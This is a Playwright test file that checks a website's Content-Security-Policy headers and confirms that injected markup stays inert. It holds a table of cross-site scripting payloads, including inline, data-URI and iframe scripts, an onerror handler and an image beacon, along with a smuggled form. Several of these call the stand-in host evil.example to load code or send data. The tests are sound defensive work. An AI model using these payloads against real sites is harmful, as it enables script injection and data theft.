import type { Page } from '@playwright/test'
import { pathOf } from './rows.ts'
import { expect, test } from './stories.ts'

const pages = ['/', '/work', '/about', '/values', '/contact', '/privacy', '/login', '/signup', '/logout', '/nowhere']

/** Puts markup into the answers of this page, as a hole in our own code would. */
async function inject(page: Page, markup: string): Promise<void> {
  await page.route(/\/(about|work)$/, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</main>', `${markup}</main>`) })
  })
}

test('no page asks for anything that its policy forbids', async ({ visitor, admin, site, complaints }) => {
  for (const person of [visitor, admin]) {
    for (const path of [...pages, '/create', pathOf(site, 'Low Line')]) {
      const response = await person.opens(path)
      expect(response.headers()['content-security-policy'], path).toMatch(/^default-src 'none'; /)
      expect(response.headers()['content-security-policy'], path).not.toMatch(/unsafe|\*|https?:/)
    }
  }
  expect(complaints).toEqual([])
})

const injected = {
  'a script': '<script>window.gotIn = true</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script with a guessed mark': '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.gotIn = true</script>',
  'a handler': '<img src="/nowhere.png" onerror="window.gotIn = true">',
  'a data script': '<script src="data:text/javascript,window.gotIn=true"></script>',
  'a frame': '<iframe srcdoc="<script>parent.gotIn = true</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>parent.gotIn = true</script>"></object>',
  'a style': '<style>main { display: none }</style>',
  'a picture that tells': '<img src="https://evil.example/?stolen">',
}

for (const [what, markup] of Object.entries(injected)) {
  test(`${what} that was smuggled into a page does nothing`, async ({ visitor, complaints }) => {
    let told = false
    await visitor.page.route('https://evil.example/**', (route) => ((told = true), route.abort()))
    await inject(visitor.page, markup)
    await visitor.opens('/about')
    await expect
      .poll(() => complaints.filter((line) => line.includes('Content-Security-Policy')).length)
      .toBeGreaterThan(0)
    expect(await visitor.page.evaluate(() => 'gotIn' in window)).toBe(false)
    expect(told).toBe(false)
    await expect(visitor.main).toBeVisible()
    complaints.length = 0
  })
}

test('a form that was smuggled in sends nothing to another site', async ({ visitor, complaints }) => {
  let told = false
  await visitor.page.route('https://evil.example/**', (route) => ((told = true), route.abort()))
  await visitor.opens('/about')
  await visitor.page.evaluate(() => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://evil.example/' })
    document.body.append(form)
    form.submit()
  })
  await expect.poll(() => complaints.some((line) => line.includes('form-action'))).toBe(true)
  expect(told).toBe(false)
  complaints.length = 0
})

test('no other page may frame this site', async ({ visitor, site, complaints }) => {
  await visitor.page.route('http://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.origin}/work"></iframe>` }),
  )
  await visitor.page.goto('http://evil.example/')
  await expect.poll(() => visitor.page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  complaints.length = 0
})
